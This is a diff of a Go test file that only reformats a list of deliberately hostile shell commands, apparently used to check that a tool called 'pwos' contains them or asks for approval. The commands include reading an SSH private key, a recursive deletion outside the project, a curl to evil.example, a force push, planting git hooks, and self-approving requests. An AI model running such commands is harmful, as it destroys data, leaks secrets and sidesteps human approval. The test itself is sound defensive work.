@@ -42,9 +42,9 @@ func TestQuestionsAreRare(t *testing.T) {
 	))
 	asked := 0
 	hostile := []step{
-		run("git push --force origin main:main; true"), run("npm publish; true"), run("cat "+p.Path("home/.ssh/id_ed25519")+"; true"),
-		run("rm -rf "+p.Path("outside")+" ~/../../.. 2>/dev/null; true"), run("curl -sS --max-time 5 https://evil.example/?x=1; true"),
-		run("printf '#!/bin/sh\\ntouch "+p.Path("ran")+"' >.git/hooks/post-commit; chmod +x .git/hooks/post-commit; echo 'touch "+p.Path("ran")+"' >.envrc; true"),
+		run("git push --force origin main:main; true"), run("npm publish; true"), run("cat " + p.Path("home/.ssh/id_ed25519") + "; true"),
+		run("rm -rf " + p.Path("outside") + " ~/../../.. 2>/dev/null; true"), run("curl -sS --max-time 5 https://evil.example/?x=1; true"),
+		run("printf '#!/bin/sh\\ntouch " + p.Path("ran") + "' >.git/hooks/post-commit; chmod +x .git/hooks/post-commit; echo 'touch " + p.Path("ran") + "' >.envrc; true"),
 		run("sh -c 'git push origin HEAD:refs/heads/sneaky'; true"), run("pwos approvals; pwos approve q-1; true"),
 	}
 	hostile[0].before = func() { asked = strings.Count(p.run("pwos", "approvals", "--all"), `"id":"`) }
